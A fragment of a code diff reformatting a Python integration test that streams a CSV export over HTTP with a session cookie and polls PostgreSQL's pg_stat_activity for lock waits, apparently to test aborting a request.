-                                                                 "X-Request-ID": "abort-test-42"})
+            http.request(
+                "GET",
+                ACCESS + "?format=csv",
+                headers={"Cookie": f"sessionid={web.cookies['sessionid'].value}", "X-Request-ID": "abort-test-42"},
+            )
             response = http.getresponse()
             assert response.status == 200 and response.getheader("X-Request-ID") == "abort-test-42"
             assert response.getheader("Transfer-Encoding") == "chunked"
             assert response.readline().decode().startswith("grant_id,request_id,")
             for _ in range(300):
-                waiting = admin.execute("SELECT pid FROM pg_stat_activity WHERE datname = current_database() AND wait_event_type = 'Lock'").fetchall()
+                waiting = admin.execute(
+                    "SELECT pid FROM pg_stat_activity WHERE datname = current_database() AND wait_event_type = 'Lock'"
+                ).fetchall()
                 if waiting:
                     break
                 time.sleep(0.1)
